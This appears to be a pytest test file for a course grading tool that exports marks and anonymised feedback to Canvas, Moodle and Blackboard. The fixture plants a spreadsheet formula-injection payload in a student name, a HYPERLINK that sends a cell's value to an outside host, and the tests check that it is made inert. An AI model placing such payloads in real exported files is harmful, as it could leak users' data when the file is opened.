"""Marks and feedback on their way into a learning management system: held against the rules that it documents."""

from __future__ import annotations

import csv
import importlib.util
import io
import re
import zipfile
from pathlib import Path
from types import ModuleType

import pytest
from classroom import NAME, Course, right

from massage_course import cli
from massage_course.grading import lms
from massage_course.tables import inert

TITLE = "Low back pain: graded assignment"


def _judge() -> ModuleType:
    place = Path(__file__).parent / "judges" / "lms_import.py"
    spec = importlib.util.spec_from_file_location("lms_import", place)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


JUDGE = _judge()


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    """ana is marked to the end, ben's free text is open, zoë handed nothing in and has a name that would be run."""
    course = Course(tmp_path_factory.mktemp("lms"))
    course.nbgrader("generate_assignment", NAME)
    for student in ("ana", "ben"):
        course.put(student, right(course.key))
    course.command("grade", NAME)
    with course.gradebook() as book:
        grade = book.find_grade("lbp_g11", NAME, NAME, "ana")
        grade.manual_score, grade.needs_manual_grade = 7.125, False
        book.db.commit()
        book.update_or_create_student(
            "ana", first_name="Ana", last_name='de "A", Ñ', lms_user_id="501", email="a@x.org"
        )
        run = '=HYPERLINK("http://x.org?"&A1)'
        book.update_or_create_student("zoe", first_name="@Zoë", last_name=run, email="z@x.org")
    return course


def export(course: Course, system: str, *words: str) -> tuple[bytes, str]:
    file = course.root.parent / "marks.csv"
    said = course.command("marks", str(file), "--for", system, *words)
    return file.read_bytes(), said


def full(course: Course) -> float:
    return sum(item.points for item in course.key.items if item.type != "free_text") + 7.125


def test_canvas_takes_the_marks(course: Course) -> None:
    content, said = export(course, "canvas")
    marks, possible = JUDGE.canvas(content)
    assert marks == {TITLE: {"501": full(course), "ben": None, "zoe": None}}
    assert possible == {TITLE: sum(item.points for item in course.key.items)}
    assert f"Empty, because a person must still mark it: ben, {TITLE}." in said
    names = [row[0] for row in csv.reader(io.StringIO(content.decode()))]
    assert 'de "A", Ñ, Ana' in names and names[1] == "    Points Possible"


def test_moodle_takes_the_marks_by_login_and_by_email(course: Course) -> None:
    content, _ = export(course, "moodle", "--zero")
    assert JUDGE.moodle(content, "Username") == {TITLE: {"ana": full(course), "ben": None, "zoe": 0.0}}
    with pytest.raises(AssertionError, match="usermappingerror"):
        JUDGE.moodle(content, "Email address")  # ben has none: one such student stops the import


def test_blackboard_takes_the_marks(course: Course) -> None:
    content, _ = export(course, "blackboard")
    assert JUDGE.blackboard(content) == {TITLE: {"ana": full(course), "ben": None, "zoe": None}}


def test_two_assignments_of_one_title_stay_apart(course: Course, tmp_path: Path) -> None:
    """Canvas finds a column by its title, so of two alike one would be lost; and one is without a key file."""
    twin = Course.copied(course.root.parent, tmp_path)
    key = (twin.root / "keys" / f"{NAME}.yml").read_text("utf-8")
    (twin.root / "keys" / "form_b.yml").write_text(key.replace(f"assignment: {NAME}", "assignment: form_b"), "utf-8")
    with twin.gradebook() as book:
        for name in ("form_b", "foreign"):
            book.add_assignment(name)
            book.add_notebook(name, name)
    content, _ = export(twin, "canvas", *(f"--only={name}" for name in (NAME, "form_b", "foreign")))
    marks, _ = JUDGE.canvas(content)
    assert list(marks) == [f"{TITLE}, {NAME}", f"{TITLE}, form_b", "foreign"]
    content, _ = export(twin, "canvas")
    assert list(JUDGE.canvas(content)[0]) == [f"{TITLE}, {NAME}"], "what nobody handed in yet is no column"


@pytest.mark.parametrize("system", cli.LMS)
def test_every_item_has_a_column_of_its_own(course: Course, system: str) -> None:
    content, _ = export(course, system, "--items", NAME)
    judged = JUDGE.moodle(content, "Username") if system == "moodle" else getattr(JUDGE, system)(content)
    marks = judged[0] if system == "canvas" else judged
    who = "501" if system == "canvas" else "ana"
    assert [title.split()[1] for title in marks] == [item.id for item in course.key.items]
    for item in course.key.items:
        points = marks[f"{NAME} {item.id}"]
        assert points[who] == (7.125 if item.type == "free_text" else item.points)
        assert points["ben"] == (None if item.type == "free_text" else item.points)
        assert points.get("zoe") is None


def test_a_class_list_that_the_system_exported_gives_the_ids_of_people_and_columns(course: Course) -> None:
    roster = course.root.parent / "roster.csv"
    column = f"{TITLE} [Total Pts: 33 Score] |1281892"
    roster.write_text(
        f'"Last Name","First Name","Username","Student ID","{column}"\n'
        '"A","Ana","aa17","501",""\n"B","B","ben","7",""\n',
        "utf-8-sig",
    )
    content, said = export(course, "blackboard", "--roster", str(roster))
    assert JUDGE.blackboard(content) == {column: {"aa17": full(course), "ben": None}}
    assert "Left out zoe: not in the class list." in said


def test_a_class_list_may_say_itself_who_is_who(course: Course) -> None:
    roster = course.root.parent / "roster.csv"
    roster.write_text(f"student_id,ID,SIS Login ID,{TITLE} (77)\nana,9,x\nben,10,y\nzoe,11,=1+1\n", "utf-8")
    content, said = export(course, "canvas", "--roster", str(roster))
    assert JUDGE.canvas(content)[0] == {f"{TITLE} (77)": {"9": full(course), "10": None}}
    assert "Left out zoe: a spreadsheet would run '=1+1' as a formula." in said


@pytest.mark.parametrize(
    ("list_", "said"),
    [
        (b"", "the class list is empty"),
        (b"\xff\xfe", "no CSV file in UTF-8"),
        (b"Name\nAna\n", "needs a column 'student_id', or one of Username"),
        (b"Username\nana\nana\n", "more than one line for ana"),
    ],
)
def test_a_class_list_that_does_not_fit_is_refused_in_words(course: Course, list_: bytes, said: str) -> None:
    roster = course.root.parent / "roster.csv"
    roster.write_bytes(list_)
    with pytest.raises(AssertionError, match=said) as error:
        export(course, "blackboard", "--roster", str(roster))
    assert "Traceback" not in str(error.value)


def test_a_text_that_a_spreadsheet_would_run_is_made_inert() -> None:
    assert [inert(cell) for cell in ("=1", "+1", "-1", "@x", "\tx", "-", "a=1")] == [
        *("'=1", "'+1", "'-1", "'@x", "'\tx", "-", "a=1"),
    ]
    assert [inert(cell) for cell in (-0.25, 12.0, 1 / 3, 0.0, None)] == ["-0.25", "12", "0.3333", "0", ""]


def test_the_table_of_all_marks_is_inert_too(course: Course) -> None:
    course.command("marks", str(course.root.parent / "all.csv"))
    assert "'=HYPERLINK" in (course.root.parent / "all.csv").read_text("utf-8")


def test_the_command_knows_the_systems() -> None:
    assert set(cli.LMS) == set(lms.FORMATS)


def test_the_feedback_of_a_class_is_one_zip_whose_names_tell_nothing(course: Course) -> None:
    file = course.root.parent / "feedback.zip"
    said = course.command("feedback", NAME, "--zip", str(file))
    assert "for you alone" in said
    with zipfile.ZipFile(file) as pack:
        pages = {name: pack.read(name).decode() for name in pack.namelist()}
        assert len({entry.date_time for entry in pack.infolist()}) == 1
    assert len(pages) == 2 and list(pages) == sorted(pages)
    for name, page in pages.items():
        assert re.fullmatch(r"[0-9a-f]{16}\.html", name)
        assert not re.search(r"\b(ana|ben|zoe|Ñ)\b", page, re.IGNORECASE)
    with (course.root.parent / "feedback-names.csv").open(encoding="utf-8-sig", newline="") as stream:
        owner = {row["student"]: row["file"] for row in csv.DictReader(stream)}
    assert set(owner) == {"ana", "ben"} and set(owner.values()) == set(pages)
    assert "7.125 of" in pages[owner["ana"]]
    course.command("feedback", NAME, "--zip", str(file))
    with zipfile.ZipFile(file) as pack:
        assert not set(pack.namelist()) & set(pages)
